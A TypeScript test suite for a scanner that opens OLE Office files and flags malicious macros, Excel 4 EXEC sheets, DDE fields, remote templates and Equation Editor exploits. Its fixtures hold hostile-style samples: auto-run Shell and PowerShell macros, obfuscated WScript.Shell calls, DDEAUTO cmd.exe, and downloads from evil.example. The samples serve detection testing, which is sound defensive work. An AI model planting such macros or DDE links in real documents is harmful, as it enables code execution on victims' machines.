import assert from 'node:assert/strict'
import { Buffer } from 'node:buffer'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { oleOpener } from '../../../src/unpack/documents/ole.ts'
import { type NodeFacts, nodeOf, type RecordingOptions, type RecordingRun, recordingRun } from '../recording-run.ts'
import { guidBytes, makeOle, type OleOptions, type Storage } from './make-ole.ts'
import { packageBytes } from './make-package.ts'
import { makeVba, type VbaOptions } from './make-vba.ts'
import { biff, hiddenExec, makeWorkbook, ptg } from './make-xls.ts'

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!', 'H+H*'].join('$')
const PYTHON = '/usr/bin/python3'
const EQUATION = '{0002CE02-0000-0000-C000-000000000046}'

async function open(
  bytes: Buffer,
  options: RecordingOptions = {},
  facts: Partial<NodeFacts> = {},
): Promise<RecordingRun> {
  const run = recordingRun(options)
  await oleOpener().open(nodeOf(bytes, { type: 'ole', ...facts }), run)
  return run
}

function found(run: RecordingRun): Record<string, string> {
  return Object.fromEntries(run.findings.map((finding) => [finding.name, finding.risk]))
}

function worst(run: RecordingRun): string {
  return ['high', 'medium', 'low'].find((risk) => run.findings.some((finding) => finding.risk === risk)) ?? 'none'
}

function text(run: RecordingRun, name: string): string {
  const member = run.members.find((one) => one.name === name)
  assert.ok(member, `no member ${name} among ${run.members.map((one) => one.name).join(', ')}`)
  return member.bytes.toString()
}

function openVba(source: string, options?: VbaOptions): Promise<RecordingRun> {
  return open(makeOle({ Macros: makeVba({ ThisDocument: source }, options) }))
}

describe('OLE documents', () => {
  it('hands over every stream, what no tree reaches and what lies in unused sectors', async () => {
    const bytes = makeOle(
      { WordDocument: Buffer.alloc(9000, 'text '), Deep: { Inner: Buffer.from('small') } },
      { orphans: { Lost: Buffer.from(EICAR) }, leftover: Buffer.from(EICAR) },
    )
    const run = await open(bytes)
    assert.equal(text(run, 'Deep/Inner'), 'small')
    assert.equal(text(run, '(orphan)/Lost'), EICAR)
    assert.ok(run.members.some((member) => member.name.startsWith('(unused sectors') && member.bytes.includes(EICAR)))
    assert.deepEqual([run.findings, run.faults], [[], []])
  })

  it('calls a stream whose chain is broken damaged', async () => {
    const bytes = makeOle({ Big: Buffer.alloc(9000, 'x') })
    const run = await open(bytes.fill(0xff, bytes.length - 512, bytes.length - 508))
    assert.equal(run.members[0]?.damage?.reason, 'malformed')
  })

  it('leaves the streams of a mail store to the mail opener, not its macros', async () => {
    const mail = makeOle({
      '__properties_version1.0': Buffer.alloc(64),
      Macros: makeVba({ M: 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub' }),
    })
    assert.equal(oleOpener().wants(nodeOf(mail, { type: 'ole' })), 'looks')
    const run = await open(mail)
    assert.deepEqual(
      run.members.map((member) => member.name),
      ['Macros/vba/M.bas'],
    )
    assert.equal(worst(run), 'high')
    assert.equal(oleOpener().wants(nodeOf(makeOle({ A: Buffer.from('a') }), { type: 'ole' })), 'members')
    assert.equal(oleOpener().wants(nodeOf(Buffer.from('PK'), { type: 'zip' })), undefined)
  })

  it('reads the same streams as olefile', checkedByOlefile(), async () => {
    const bytes = makeOle({
      A: Buffer.alloc(5000, 'a'),
      S: { B: Buffer.from('bb'), T: { C: Buffer.alloc(70_000, 'c') } },
    })
    const run = await open(bytes)
    const folder = mkdtempSync(join(tmpdir(), 'ole-'))
    writeFileSync(join(folder, 'x'), bytes)
    const script =
      'import olefile,sys;o=olefile.OleFileIO(sys.argv[1]);print(sorted("/".join(p)+":"+str(len(o.openstream(p).read())) for p in o.listdir()))'
    const { stdout } = spawnSync(PYTHON, ['-c', script, join(folder, 'x')], { encoding: 'utf8' })
    rmSync(folder, { recursive: true })
    const own = run.members.map((member) => `'${member.name}:${member.bytes.length}'`).sort()
    assert.equal(stdout.trim(), `[${own.join(', ')}]`)
  })
})

/** Debian's python3-olefile, a reader of other hands. */
function checkedByOlefile(): { skip?: string } {
  if (spawnSync(PYTHON, ['-c', 'import olefile']).status === 0) return {}
  if (process.env.CI === 'true') throw new Error('python3-olefile is not installed (with CI=true that is a failure)')
  console.error('SKIPPED: python3-olefile is not installed')
  return { skip: 'python3-olefile is not installed' }
}

describe('VBA', () => {
  it('brings the source out, by module, decoded by the code page', async () => {
    const cyrillic = Buffer.from("Sub \xcf\xf0\xe8\xe2\xe5\xf2()\r\n' \xe0\r\nEnd Sub", 'latin1')
    const run = await open(makeOle({ _VBA_PROJECT_CUR: makeVba({ Module1: cyrillic }, { codePage: 1251 }) }))
    assert.match(text(run, '_VBA_PROJECT_CUR/vba/Module1.bas'), /Sub Привет/)
  })

  it('finds the source by itself where the project directory lies', async () => {
    const project = makeVba({ Evil: 'Sub Document_Open()\r\nShell "calc.exe"\r\nEnd Sub' }) as {
      VBA: Record<string, Buffer>
    }
    const run = await open(makeOle({ Macros: { VBA: { ...project.VBA, dir: Buffer.from('rubbish') } } }))
    assert.match(text(run, 'Macros/vba/Evil.bas'), /Document_Open/)
    assert.equal(worst(run), 'high')
    assert.equal(run.faults[0]?.reason, 'malformed')
  })

  const autoShell = 'Private Sub Document_Open()\r\n  Shell "powershell -w hidden", 0\r\nEnd Sub'
  const cases: readonly { source: string; risk: string; name?: string; because: string }[] = [
    { source: 'Sub Total()\r\nRange("A1").Value = 1 + 2\r\nEnd Sub', risk: 'none', because: 'a plain macro' },
    {
      source: 'Sub Workbook_Open()\r\nMsgBox "Hello"\r\nEnd Sub',
      risk: 'low',
      name: 'Macro.AutoRun',
      because: 'runs by itself, does nothing',
    },
    {
      source: 'Sub A()\r\n\' Shell "calc"\r\nMsgBox "The Shell (x) opens"\r\nEnd Sub',
      risk: 'none',
      because: 'words in comments and texts',
    },
    {
      source: 'Sub A()\r\nMsgBox "a" & vbCrLf & "b" & Chr(10) & "c"\r\nEnd Sub',
      risk: 'none',
      because: 'ordinary joining',
    },
    {
      source: 'Sub Go()\r\nShell "notepad.exe", 1\r\nEnd Sub',
      risk: 'low',
      name: 'Macro.Shell',
      because: 'a button starts a program',
    },
    { source: autoShell, risk: 'high', name: 'Macro.AutoRunShell', because: 'starts a program by itself' },
    {
      source: 'Sub AutoOpen()\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nEnd Sub',
      risk: 'high',
      name: 'Macro.AutoRunDownload',
      because: 'downloads by itself',
    },
    {
      source:
        'Private Declare PtrSafe Function V Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr) As LongPtr\r\nDeclare Function VirtualAlloc Lib "kernel32" ()\r\nSub Auto_Open()\r\nEnd Sub',
      risk: 'high',
      name: 'Macro.AutoRunInject',
      because: 'memory for code, by itself',
    },
    {
      source: 'Sub A()\r\nx = "WScr" & "ipt.Sh" & "ell"\r\nCreateObject(x).Run "a"\r\nEnd Sub',
      risk: 'medium',
      name: 'Macro.HiddenStrings',
      because: 'hides what it uses',
    },
    {
      source: `Sub AutoOpen()\r\nCreateObject(StrReverse("llehS.tpircSW")).Run "x"\r\nEnd Sub`,
      risk: 'high',
      name: 'Macro.HiddenStrings',
      because: 'hides what it runs by itself',
    },
    {
      source: `Sub A()\r\nx = ${[...'This is a text'].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}\r\nEnd Sub`,
      risk: 'medium',
      name: 'Macro.Obfuscated',
      because: 'a chain of Chr()',
    },
  ]
  for (const { source, risk, name, because } of cases) {
    it(`says ${risk} where there is ${because}`, async () => {
      const run = await openVba(source)
      assert.equal(worst(run), risk, JSON.stringify(run.findings))
      if (name !== undefined) assert.ok(name in found(run), JSON.stringify(run.findings))
      for (const finding of run.findings) assert.match(finding.attack, /^T\d{4}(\.\d{3})?$/)
    })
  }

  it('shows strings that were put together, and the addresses in them', async () => {
    const run = await openVba(
      'Sub A()\r\nu = "htt" & "p://evil.exam" & Chr(112) & "le/a" _\r\n & ".exe"\r\nw = u & "?q"\r\nEnd Sub',
    )
    assert.match(text(run, 'Macros/vba/(strings put together).txt'), /^http:\/\/evil\.example\/a\.exe$/m)
    assert.deepEqual(run.urls, ['http://evil.example/a.exe', 'http://evil.example/a.exe?q'])
  })

  it('takes variables of any name', async () => {
    const names = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'vbCrLf']
    const run = await openVba(
      `Sub A()\r\n${names.map((name) => `x = ${name} & "b"\r\n${name} = "c"`).join('\r\n')}\r\nEnd Sub`,
    )
    assert.deepEqual(run.findings, [])
  })

  it('notices compiled code that its source does not tell of', async () => {
    const cache = Buffer.concat([Buffer.alloc(80), Buffer.from('powershell -enc'), Buffer.alloc(20)])
    const harmless = await openVba('Sub A()\r\nMsgBox "hi"\r\nEnd Sub', { cache })
    assert.equal(found(harmless)['Macro.Stomped'], 'medium')
    const empty = await openVba('', {
      cache: Buffer.alloc(300, 1),
      identifiers: Buffer.from('xxDocument_OpenxxShellxx'),
    })
    assert.equal(found(empty)['Macro.Stomped'], 'high')
    const honest = await openVba('Sub A()\r\nShell "powershell -enc x"\r\nEnd Sub', { cache })
    assert.equal(found(honest)['Macro.Stomped'], undefined)
  })
})

describe('Excel 4 macros', () => {
  const evil = { name: 'Macro1', macro: true, state: 2, formulas: [hiddenExec('calc.exe'), ptg.call(54, 0)] } as const
  const data = {
    name: 'Sheet1',
    macro: false,
    state: 0,
    formulas: [Buffer.concat([ptg.int(1), ptg.int(2), Buffer.from([3])])],
  } as const

  it('reads formulas of a very hidden sheet that runs by itself', async () => {
    const run = await open(makeOle({ Workbook: makeWorkbook({ sheets: [data, evil], builtIn: [1] }) }))
    assert.match(text(run, 'xlm/formulas.txt'), /Macro1!A1: =EXEC\("calc\.exe"\)\nMacro1!A2: =HALT\(\)/)
    assert.equal(found(run)['Macro.XlmStarts'], 'high')
    assert.match(run.findings[0]?.detail ?? '', /Macro1 \(very hidden\)/)
  })

  it('finds macro sheets that the list of sheets does not name', async () => {
    const bytes = makeWorkbook({ sheets: [evil] })
    // BoundSheet says that it is a worksheet.
    bytes[bytes.indexOf('Macro1') - 3] = 0
    assert.equal(found(await open(makeOle({ Workbook: bytes })))['Macro.XlmStarts'], 'high')
  })

  it('finds them in a workbook inside another document', async () => {
    const inner = makeWorkbook({ sheets: [evil] })
    const run = await open(makeOle({ WordDocument: Buffer.alloc(600), ObjectPool: { _1: { Workbook: inner } } }))
    assert.equal(found(run)['Macro.XlmStarts'], 'high')
    assert.match(text(run, 'ObjectPool/_1/xlm/formulas.txt'), /EXEC/)
  })

  it('says nothing of workbooks without them', async () => {
    const run = await open(makeOle({ Workbook: makeWorkbook({ sheets: [data], names: ['Total'] }) }))
    assert.deepEqual(run.findings, [])
  })

  it('sees DDE links of a workbook', async () => {
    const run = await open(makeOle({ Workbook: makeWorkbook({ sheets: [data], supBooks: ['cmd\u0003 /c calc'] }) }))
    assert.equal(found(run)['Document.Dde'], 'high')
  })

  it('takes any bytes for records', () => {
    return fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom(6, 0x18, 0x85, 0x809, 0x207, 0x1ae), fc.uint8Array({ maxLength: 80 }))),
        async (records) => {
          await open(
            makeOle({
              Workbook: Buffer.concat([
                makeWorkbook({ sheets: [evil] }),
                ...records.map(([id, bytes]) => biff(id, Buffer.from(bytes))),
              ]),
            }),
          )
        },
      ),
      { numRuns: 100 },
    )
  })
})

describe('objects in OLE documents', () => {
  const native = (name: string, bytes: Buffer) => ({
    ObjectPool: { _1: { '\u0001Ole10Native': packageBytes(name, bytes) } },
  })

  it('hands over a packaged file by its name', async () => {
    const run = await open(makeOle(native('photo.txt', Buffer.from(EICAR))))
    assert.equal(text(run, 'photo.txt'), EICAR)
    assert.deepEqual(run.findings, [])
  })

  for (const [name, bytes] of [
    ['invoice.js', Buffer.from('var a')],
    ['invoice.pdf', Buffer.from('MZ\x90\0')],
    ['a.txt', Buffer.from('@echo off\r\ncalc')],
  ] as const) {
    it(`calls ${name} that runs when opened high`, async () => {
      assert.equal(found(await open(makeOle(native(name, bytes))))['Document.EmbeddedProgram'], 'high')
    })
  }

  it('tells an honest equation from an exploit', async () => {
    const mtef = Buffer.concat([Buffer.alloc(28), Buffer.from([3, 1, 1, 3, 10, 0x0a, 1])])
    const short = Buffer.concat([mtef, Buffer.from([8, 1, 1]), Buffer.from('Times\0')])
    const long = Buffer.concat([mtef, Buffer.from([8, 1, 1]), Buffer.alloc(48, 'A'), Buffer.from([0])])
    const made = (streams: Storage) =>
      makeOle({ ObjectPool: { _1: streams } }, { classIds: { 'ObjectPool/_1': EQUATION } })
    assert.deepEqual(found(await open(made({ 'Equation Native': short }))), { 'Document.Equation': 'low' })
    assert.equal(found(await open(made({ 'Equation Native': long })))['Exploit.EquationEditor'], 'high')
    assert.equal(found(await open(made({ '\u0001oLe10nAtive': Buffer.alloc(60, 1) })))['Document.Equation'], 'high')
  })

  it('reports objects that are linked from elsewhere', async () => {
    const url = Buffer.from('http://evil.example/x.hta\0', 'utf16le')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(url.length)
    const link = Buffer.concat([Buffer.alloc(20), guidBytes('{79EAC9E0-BAF9-11CE-8C82-00AA004BA90B}'), size, url])
    const run = await open(makeOle({ '\u0001Ole': link }))
    assert.equal(found(run)['Document.RemoteObject'], 'high')
    assert.deepEqual(run.urls, ['http://evil.example/x.hta'])
  })

  it('names classes that are used to break in', async () => {
    const options: OleOptions = { classIds: { '': '{06290BD3-48AA-11D2-8432-006008C3FBFC}' } }
    assert.equal(found(await open(makeOle({ A: Buffer.from('a') }, options)))['Document.RiskyObject'], 'high')
  })

  it('sees DDE fields and remote templates of a Word document', async () => {
    const fib = Buffer.alloc(1024)
    const table = Buffer.concat([
      Buffer.from('ffff02000000', 'hex'),
      Buffer.from([0, 0]),
      wide('http://evil.example/t.dotm'),
    ])
    fib.writeUInt32LE(0, 0x19a)
    fib.writeUInt32LE(table.length, 0x19e)
    const field = Buffer.from('\u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \u0014!\u0015', 'latin1')
    const run = await open(makeOle({ WordDocument: Buffer.concat([fib, field]), '0Table': table }))
    assert.deepEqual(found(run), { 'Document.Dde': 'high', 'Document.RemoteTemplate': 'high' })
    const harmless = Buffer.from('\u0013 HYPERLINK "https://example.org/" \u0014x\u0015 \u0013 PAGE \u0014', 'latin1')
    const quiet = await open(makeOle({ WordDocument: Buffer.concat([Buffer.alloc(1024), harmless]) }))
    assert.deepEqual([quiet.findings, quiet.urls], [[], ['https://example.org/']])
  })

  it('takes objects and macros out of a presentation', async () => {
    const inner = makeOle(makeVba({ M: 'Sub A()\r\nEnd Sub' }))
    const size = Buffer.alloc(4)
    size.writeUInt32LE(inner.length)
    const slides = slideRecord(0x0f, 0x03e8, slideRecord(0x10, 0x1011, Buffer.concat([size, deflateSync(inner)])))
    const run = await open(makeOle({ 'PowerPoint Document': slides }))
    assert.ok(run.members.find((member) => member.name === 'object-1')?.bytes.equals(inner))
  })
})

function wide(value: string): Buffer {
  const count = Buffer.alloc(2)
  count.writeUInt16LE(value.length)
  return Buffer.concat([count, Buffer.from(value, 'utf16le')])
}

function slideRecord(version: number, type: number, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt16LE(version, 0)
  head.writeUInt16LE(type, 2)
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data])
}

describe('hostile OLE documents', () => {
  it('end cleanly or as unscanned, wherever they are cut and whatever is flipped', async () => {
    const macros = makeVba({ ThisDocument: 'Sub AutoOpen()\r\nShell "x" & Chr(99)\r\nEnd Sub' })
    const good = makeOle({
      WordDocument: Buffer.alloc(600, 'text \u0013 DDE x'),
      '1Table': Buffer.alloc(100),
      Workbook: makeWorkbook({
        sheets: [{ name: 'M', macro: true, state: 1, formulas: [hiddenExec('calc')] }],
        builtIn: [1],
      }),
      Macros: macros,
      'PowerPoint Document': slideRecord(0x10, 0x1011, Buffer.concat([Buffer.alloc(4), deflateSync(Buffer.alloc(99))])),
      Pool: { '\u0001Ole10Native': packageBytes('a.exe', Buffer.from('MZ')) },
    })
    for (let length = 0; length < good.length; length += 37) await survive(good.subarray(0, length))
    const flips = fc.array(fc.tuple(fc.nat(good.length - 1), fc.nat(255)), { minLength: 1, maxLength: 12 })
    const property = fc.asyncProperty(flips, async (edits) => {
      const bytes = Buffer.from(good)
      for (const [at, value] of edits) bytes[at] = value
      await survive(bytes)
    })
    await fc.assert(property, { numRuns: 300 })
  })
})

async function survive(bytes: Buffer): Promise<void> {
  try {
    await open(bytes, { passwords: [] })
  } catch (error) {
    if (!(error instanceof Unscanned)) throw error
  }
}
